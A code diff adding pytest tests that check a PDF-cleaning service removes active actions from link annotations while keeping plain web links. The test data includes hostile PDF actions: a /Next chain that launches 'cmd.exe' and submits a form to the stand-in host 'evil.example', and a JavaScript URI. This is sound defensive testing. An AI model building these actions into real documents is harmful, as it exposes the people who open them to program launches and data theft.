@@ -93,3 +93,53 @@ def test_a_signed_pledge_in_review_cannot_be_changed_through_the_translation_for
     assert response.status_code == 400
     db.expire_all()
     assert "en" not in db.get(type(found), found.id).title  # type: ignore[union-attr]
+
+
+def _pdf_with_link(action: pikepdf.Dictionary) -> bytes:
+    pdf = pikepdf.new()
+    pdf.add_blank_page(page_size=(200, 200))
+    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[10, 10, 100, 30], A=action)
+    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
+
+
+def _actions(data: bytes) -> list[str]:
+    """Every action in the cleaned file, as 'S' or 'S:URI', found by walking all objects."""
+    found: list[str] = []
+    with pikepdf.open(io.BytesIO(data)) as pdf:
+        def walk(obj: Any, depth: int = 0) -> None:
+            if depth > 20:
+                return
+            if isinstance(obj, pikepdf.Dictionary):
+                if "/S" in obj:
+                    found.append(f"{obj.S}:{obj.get('/URI', '')}")
+                for key in obj.keys():  # noqa: SIM118 - pikepdf objects iterate differently
+                    walk(obj[key], depth + 1)
+            elif isinstance(obj, pikepdf.Array):
+                for item in obj:
+                    walk(item, depth + 1)
+        for page in pdf.pages:
+            walk(page.obj)
+    return found
+
+
+@pytest.mark.parametrize("action", [
+    # A harmless jump whose /Next chain (an array) launches a program or submits a form.
+    pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[0, pikepdf.Name.Fit], Next=pikepdf.Array([
+        pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")),
+        pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))])),
+    # A link whose URI is script.
+    pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(" JavaScript:app.alert(1)")),
+], ids=["next-array", "javascript-uri"])
+def test_active_actions_in_a_link_annotation_do_not_survive_cleaning(action: pikepdf.Dictionary) -> None:
+    """The attack: a link annotation's /A action that pikepdf cleaning left in place."""
+    cleaned = _actions(service.clean_pdf(_pdf_with_link(action)))
+    assert not any(name.startswith(("/Launch", "/SubmitForm")) for name in cleaned), cleaned
+    assert not any("javascript" in name.lower() for name in cleaned), cleaned
+
+
+def test_plain_web_links_in_a_pdf_are_kept() -> None:
+    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://polisen.se/"))
+    assert "/URI:https://polisen.se/" in _actions(service.clean_pdf(_pdf_with_link(action)))
